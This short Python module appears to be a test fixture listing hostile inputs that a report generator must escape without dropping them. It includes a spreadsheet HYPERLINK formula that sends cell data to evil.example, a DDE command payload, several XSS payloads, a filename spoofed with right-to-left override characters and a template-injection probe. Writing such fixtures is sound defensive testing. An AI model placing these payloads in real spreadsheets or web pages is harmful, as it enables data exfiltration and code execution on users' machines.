"""Texts that a report must neither act on nor lose."""

from __future__ import annotations

HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "<script>document.title='owned'</script>",
    "\"><img src=x onerror=document.title='owned'>",
    "javascript:document.title='owned'",
    "\u202egpj.exe\u202c",
    "_x0041_ \x00 \x1b ]]> & $_$ {{ 7 * 7 }}",
    "긴 글 <b>" + "가" * 10_000,
)
